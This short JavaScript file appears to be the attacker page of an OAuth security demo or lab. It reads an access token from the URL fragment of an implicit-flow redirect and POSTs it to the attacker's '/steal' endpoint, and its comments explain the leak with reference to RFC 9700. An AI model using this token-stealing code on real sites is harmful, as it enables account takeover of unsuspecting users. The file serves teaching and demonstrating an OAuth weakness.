// The attacker's page reads the fragment, which the browser never sends to a server, and posts
// the access token home. This is how a token of the implicit flow leaks (RFC 9700 §2.1.2):
// any script on the page the token lands on can read it.
(function () {
  var params = new URLSearchParams(location.hash.slice(1));
  var token = params.get("access_token");
  var out = document.getElementById("fragment");
  if (!token) { return; }
  var body = new URLSearchParams({ access_token: token });
  // location.origin, not "/steal": this page's URL may still carry the user information of
  // the redirect trick (PrintShop's host before the @), and fetch refuses URLs with credentials.
  fetch(location.origin + "/steal", { method: "POST", body: body }).then(function () {
    if (out) { out.textContent = "Stolen from the fragment: an access token. See the loot on the attacker's page."; }
    document.body.setAttribute("data-stolen", "token");
  });
})();
